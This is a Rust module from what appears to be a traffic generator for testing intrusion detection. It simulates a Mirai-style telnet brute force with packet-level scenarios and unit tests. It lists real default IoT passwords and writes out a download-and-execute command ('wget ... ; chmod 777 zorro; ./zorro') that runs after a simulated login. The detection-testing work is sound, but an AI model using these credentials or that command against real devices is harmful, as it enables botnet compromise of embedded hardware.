//! `zorro`: telnet brute force on port 23 of the victim (one login attempt per connection,
//! with the default credentials of embedded devices), and now and then a login that succeeds,
//! after which the attacker's command downloads and runs `zorro`.
//!
//! Parameters: `rate` (connections per second, default 200), `sources` (attacking hosts,
//! default 1; connections take turns over them, each from the next source port), `commands`
//! (successful logins followed by the `zorro` command per second, default 4). Every whole window
//! holds about `rate` distinct (source, source port) pairs to port 23 (200 against the
//! `sonata-zorro` threshold of 40) and `commands` packets whose payload holds `zorro`. Needs
//! `--full-payload`.

use std::net::Ipv4Addr;

use rand::RngExt;
use rand_chacha::ChaCha8Rng;

use super::common::{
    Driver, Engine, Even, POOL, Params, Queue, Tcp, Ticks, host, host_range, rng_for, victim,
};
use super::spec::{ScenarioKind, ScenarioSpec, SpecError};
use super::{Scenario, ScenarioEnv};

/// Time between the steps of a connection.
const STEP_NS: u64 = 300_000;
/// Telnet options the server asks for: DO TERMINAL-TYPE, TERMINAL-SPEED, X-DISPLAY-LOCATION,
/// NEW-ENVIRON.
const SERVER_OPTIONS: [u8; 12] = [255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39];
/// The client refuses them all (WON'T).
const CLIENT_OPTIONS: [u8; 12] = [255, 252, 24, 255, 252, 32, 255, 252, 35, 255, 252, 39];
/// Default credentials a brute forcer tries.
const CREDENTIALS: [(&str, &str); 8] = [
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "default"),
    ("support", "support"),
    ("root", "12345"),
    ("user", "user"),
];

struct Zorro {
    env: ScenarioEnv,
    times: Even,
    sources: u64,
    /// Every `every`-th connection logs in and sends the command.
    every: u64,
    victim: Ipv4Addr,
    rng: ChaCha8Rng,
}

impl Driver for Zorro {
    fn times(&self) -> Ticks {
        Ticks::One(self.times)
    }

    fn tick(&mut self, n: u64, t: u64, out: &mut Queue) {
        let source = host(&self.env, n % self.sources);
        let sport = 32_768 + ((n / self.sources) % 28_000) as u16;
        let mut c =
            Tcp::new((source, sport), (self.victim, 23), self.rng.random(), self.rng.random());
        let (user, password) = CREDENTIALS[self.rng.random_range(0..CREDENTIALS.len())];
        let success = n % self.every == self.every - 1;
        let mut steps = vec![
            c.syn(),
            c.syn_ack(),
            c.ack(true),
            c.data(false, SERVER_OPTIONS.to_vec()),
            c.data(true, CLIENT_OPTIONS.to_vec()),
            c.data(false, b"login: ".to_vec()),
            c.data(true, format!("{user}\r\n").into_bytes()),
            c.data(false, b"Password: ".to_vec()),
            c.data(true, format!("{password}\r\n").into_bytes()),
        ];
        if success {
            let loader = host(&self.env, 0);
            steps.push(c.data(false, b"\r\nBusyBox v1.19.4 built-in shell (ash)\r\n# ".to_vec()));
            let command =
                format!("cd /tmp; wget http://{loader}/zorro; chmod 777 zorro; ./zorro\r\n");
            steps.push(c.data(true, command.into_bytes()));
            steps.push(c.data(false, b"# ".to_vec()));
        } else {
            steps.push(c.data(false, b"\r\nLogin incorrect\r\n".to_vec()));
        }
        steps.extend([c.fin(true), c.fin(false), c.ack(true)]);
        for (i, p) in steps.into_iter().enumerate() {
            out.push(t + i as u64 * STEP_NS, p);
        }
    }
}

/// Builds a `zorro` from its flag.
pub(super) fn build(
    spec: &ScenarioSpec,
    env: &ScenarioEnv,
) -> Result<Box<dyn Scenario>, SpecError> {
    let p = Params::new(spec, &["rate", "sources", "commands"])?;
    p.need_payload(env)?;
    let timing = p.timing(env)?;
    let rate = p.rate(200.0, "connections per second")?;
    let sources = p.int("sources", 1, 1, POOL, "attacking hosts")?;
    let commands = p.real("commands", 4.0, 0.01, rate, "zorro commands per second")?;
    let mut rng = rng_for(env);
    let times = timing.even(rate, rng.random());
    let every = ((rate / commands).round() as u64).max(1);
    let driver = Zorro { env: env.clone(), times, sources, every, victim: victim(env), rng };
    let attackers = host_range(env, 0, sources);
    Ok(Engine::on_victim(ScenarioKind::Zorro, env, attackers, driver))
}

#[cfg(test)]
mod tests {
    use wire::sonata::{Alarm, ZORRO_PAYLOAD};

    use super::super::SpecError;
    use super::super::testkit::{
        check_main_rule, check_packets, env, error, run, truth, windows_of,
    };

    fn zorros(p: &[(u64, wire::build::PacketSpec)]) -> usize {
        p.iter().filter(|(_, s)| s.payload.windows(5).any(|w| w == ZORRO_PAYLOAD)).count()
    }

    #[test]
    fn defaults_raise_zorro_on_the_victim_in_every_window() {
        check_main_rule("zorro", &env(10), Alarm::Zorro, "10.10.0.1", None);
    }

    #[test]
    fn parameters_set_rate_sources_and_commands() {
        let env = env(0);
        let p = run("zorro:rate=30,sources=3,commands=2", &env);
        check_packets(&p, &env);
        assert_eq!(zorros(&p), 6, "every 15th of 90 connections");
        // 30 connections a window are below the threshold of 40.
        assert!(windows_of(&truth(&p), Alarm::Zorro, "10.0.0.1").is_empty());
        let without = run("zorro:commands=0.1,duration=2", &env);
        assert_eq!(zorros(&without), 0, "every 2000th of 400 connections");
        assert!(windows_of(&truth(&without), Alarm::Zorro, "10.0.0.1").is_empty());
    }

    #[test]
    fn bad_parameters_are_refused() {
        let mut env = env(0);
        assert!(matches!(error("zorro:commands=300", &env), SpecError::BadValue { .. }));
        assert!(matches!(error("zorro:port=2323", &env), SpecError::UnknownParam { .. }));
        env.full_payload = false;
        assert_eq!(error("zorro", &env), SpecError::NeedsPayload("zorro"));
    }
}
